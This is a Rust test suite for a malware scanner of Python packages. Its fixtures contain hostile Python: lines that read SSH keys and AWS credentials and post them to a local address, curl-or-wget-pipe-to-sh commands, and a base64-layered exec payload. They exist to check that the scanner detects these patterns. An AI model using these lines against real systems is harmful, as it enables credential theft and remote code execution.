//! Hostile or broken source inside otherwise readable packages: non-UTF-8
//! bytes, Python 2, a file of hundreds of MB, absurd nesting, endless
//! encoding layers. Each gives findings or nothing, never a crash or a hang.

#![allow(clippy::unwrap_used, clippy::disallowed_methods, reason = "tests")]

use custody_inspect::Code;
use std::io::Write;
use std::path::{Path, PathBuf};

use base64::Engine;
use custody_inspect::archive::{Anomaly, Limits, read};
use custody_inspect::{Options, Phase, Report, Verdict, inspect, inspect_with};

fn wheel(dir: &Path, files: &[(&str, Vec<u8>)]) -> PathBuf {
    let p = dir.join("pkg-1.0-py3-none-any.whl");
    let mut z = zip::ZipWriter::new(std::fs::File::create(&p).unwrap());
    for (name, data) in files {
        z.start_file(*name, zip::write::SimpleFileOptions::default())
            .unwrap();
        z.write_all(data).unwrap();
    }
    z.finish().unwrap();
    p
}

fn inspect_wheel(files: &[(&str, Vec<u8>)]) -> Report {
    let dir = tempfile::tempdir().unwrap();
    let p = wheel(dir.path(), files);
    inspect(&read(&p, &Limits::default()).unwrap())
}

fn has(r: &Report, code: &str, line: usize) -> bool {
    r.findings
        .iter()
        .any(|f| f.code.as_str() == code && f.line == Some(line) && f.phase == Phase::Import)
}

#[test]
fn latin1_source_is_read_lossily_and_still_judged() {
    let mut src = b"# -*- coding: latin-1 -*-\n# caf\xe9 \xff\xfe\n".to_vec();
    src.extend_from_slice(
        b"import os, urllib.request\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nurllib.request.urlopen('http://127.0.0.1:9/', data=k.encode())\n",
    );
    let r = inspect_wheel(&[("pkg/__init__.py", src)]);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
    assert!(has(&r, "custody::secret-access", 4), "{:#?}", r.findings);
    assert!(has(&r, "custody::network-egress", 5), "{:#?}", r.findings);
}

#[test]
fn python2_syntax_is_analysed() {
    let src = b"import os\nprint \"installing\"\nexec \"x = 1\"\nos.system('curl -s http://127.0.0.1:9/p | sh')\n".to_vec();
    let r = inspect_wheel(&[("pkg/__init__.py", src)]);
    assert!(has(&r, "custody::download-exec", 4), "{:#?}", r.findings);
    assert_eq!(r.verdict, Verdict::Malicious);
}

#[test]
fn deep_nesting_and_endless_encoding_layers_are_bounded() {
    let depth = 100_000;
    let mut nested = String::from("import os\nx = ");
    nested.push_str(&"(".repeat(depth));
    nested.push('1');
    nested.push_str(&")".repeat(depth));
    nested.push('\n');
    // 40 layers of base64 around code: decoding stops at the depth bound.
    let mut payload = b"import os\nos.system('id')\n".to_vec();
    for _ in 0..40 {
        payload = base64::engine::general_purpose::STANDARD
            .encode(&payload)
            .into_bytes();
    }
    let layered = format!(
        "import base64\nexec(base64.b64decode('{}'))\n",
        String::from_utf8(payload).unwrap()
    );
    let r = inspect_wheel(&[
        ("pkg/__init__.py", nested.into_bytes()),
        ("pkg/layers.py", layered.into_bytes()),
    ]);
    // The outer call is seen; the onion is not peeled without end.
    assert!(r.findings.iter().any(|f| f.code == Code::DynamicCode));
    assert!(
        r.findings
            .iter()
            .filter_map(|f| f.layer.as_deref())
            .all(|l| l.matches('+').count() < 8),
        "{:#?}",
        r.findings
    );
}

#[test]
fn a_file_of_hundreds_of_megabytes_is_bounded_not_read_whole() {
    let dir = tempfile::tempdir().unwrap();
    let pkg = dir.path().join("pkg");
    std::fs::create_dir(&pkg).unwrap();
    // A sparse 300 MB source file next to a real finding.
    let big = std::fs::File::create(pkg.join("huge.py")).unwrap();
    big.set_len(300 << 20).unwrap();
    std::fs::write(
        pkg.join("__init__.py"),
        b"import os\nos.system('wget http://127.0.0.1:9/x -O- | sh')\n",
    )
    .unwrap();
    let c = read(dir.path(), &Limits::default()).unwrap();
    assert!(
        c.anomalies
            .iter()
            .any(|a| matches!(a, Anomaly::Oversized { path, .. } if path.ends_with("huge.py"))),
        "{:?}",
        c.anomalies
    );
    let huge = c
        .members
        .iter()
        .find(|m| m.path.ends_with("huge.py"))
        .unwrap();
    assert!(huge.data.len() <= 16 << 20 && huge.truncated);
    let r = inspect(&c);
    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
}

fn record_row(path: &str, data: &[u8]) -> String {
    use sha2::Digest;
    let d = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(data));
    format!("{path},sha256={d},{}\n", data.len())
}

#[test]
fn files_changed_after_install_are_reported_against_record() {
    let dir = tempfile::tempdir().unwrap();
    let sp = dir.path();
    std::fs::create_dir_all(sp.join("pkg")).unwrap();
    std::fs::create_dir_all(sp.join("pkg-1.0.dist-info")).unwrap();
    let original = b"VERSION = '1.0'\n";
    let tampered = b"import os, urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/', data=open(os.path.expanduser('~/.aws/credentials'),'rb').read())\n";
    let helper = b"def f():\n    return 1\n";
    std::fs::write(sp.join("pkg/__init__.py"), tampered).unwrap();
    std::fs::write(sp.join("pkg/helper.py"), helper).unwrap();
    let record = format!(
        "{}{}pkg-1.0.dist-info/RECORD,,\n",
        record_row("pkg/__init__.py", original),
        record_row("pkg/helper.py", helper)
    );
    std::fs::write(sp.join("pkg-1.0.dist-info/RECORD"), record).unwrap();
    let r = inspect(&read(sp, &Limits::default()).unwrap());
    let mismatched: Vec<_> = r
        .findings
        .iter()
        .filter(|f| f.code == Code::RecordMismatch)
        .map(|f| f.path.as_str())
        .collect();
    assert_eq!(mismatched, vec!["pkg/__init__.py"], "{:#?}", r.findings);
    assert_eq!(r.verdict, Verdict::Malicious);
    assert!(
        r.reasons
            .iter()
            .any(|x| x.contains("changed after install")),
        "{:?}",
        r.reasons
    );
}

#[test]
fn a_tampered_wheel_fails_its_own_record() {
    let helper = b"def f():\n    return 1\n".to_vec();
    let record = record_row("pkg/helper.py", b"def f():\n    return 2\n");
    let r = inspect_wheel(&[
        ("pkg/helper.py", helper),
        ("pkg-1.0.dist-info/RECORD", record.into_bytes()),
    ]);
    assert!(
        r.findings
            .iter()
            .any(|f| f.code == Code::RecordMismatch && f.path == "pkg/helper.py"),
        "{:#?}",
        r.findings
    );
    // A changed file that does nothing early is worth a look, not a verdict.
    assert_eq!(r.verdict, Verdict::Suspicious);
}

#[test]
fn by_default_a_wheel_record_is_checked_for_what_is_analysed() {
    // A native library is skimmed (its head only) unless --deep: its
    // RECORD row is checked by size then, its digest only with --deep.
    let elf = [b"\x7fELF".as_slice(), &[7u8; 9000]].concat();
    let same_size = [b"\x7fELF".as_slice(), &[8u8; 9000]].concat();
    let record = format!(
        "{}{}{}",
        record_row("pkg/_native.so", b"\x7fELF other build"),
        record_row("pkg/_same.so", &elf),
        record_row("pkg/helper.py", b"def f():\n    return 2\n")
    );
    let dir = tempfile::tempdir().unwrap();
    let p = wheel(
        dir.path(),
        &[
            ("pkg/_native.so", elf),
            ("pkg/_same.so", same_size),
            ("pkg/helper.py", b"def f():\n    return 1\n".to_vec()),
            ("pkg-1.0.dist-info/RECORD", record.into_bytes()),
        ],
    );
    let mismatched = |deep: bool| {
        let options = Options { deep };
        let r = inspect_with(&read(&p, &options.limits()).unwrap(), options);
        r.findings
            .iter()
            .filter(|f| f.code == Code::RecordMismatch)
            .map(|f| f.path.clone())
            .collect::<Vec<_>>()
    };
    assert_eq!(mismatched(false), vec!["pkg/_native.so", "pkg/helper.py"]);
    assert_eq!(
        mismatched(true),
        vec!["pkg/_native.so", "pkg/_same.so", "pkg/helper.py"]
    );
}
